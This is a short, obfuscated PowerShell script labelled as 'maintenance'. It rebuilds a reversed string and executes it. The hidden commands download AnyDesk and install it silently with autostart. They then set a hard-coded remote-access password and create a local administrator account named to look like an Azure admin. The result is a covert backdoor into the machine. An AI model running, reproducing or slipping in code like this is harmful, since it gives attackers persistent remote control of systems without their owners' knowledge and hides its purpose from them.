$vkudv='
dda/ n1mdaeruza srotartsinimda puorglacol ten
dda/ x5202#retniW n1mdaeruza resu ten
"drowssap-tes-- exe.kseDynA\kseDynA\ataDmargorP\:C | x5202#retniW ohce" c/ dmc
"tnelis-- niw-htiw-trats-- kseDynA\ataDmargorP\:C llatsni-- exe.kseDynA\ataDmargorP\:C" c/ dmc
exe.kseDynA\ataDmargorP\:C eliFtuO- ''exe.kseDynA/moc.ksedyna.daolnwod//:sptth'' irU- tseuqeRbeW-ekovnI
1v 2141 ecnanetniam #'; iex (-join $vkudv[-1..-($vkudv.Length)])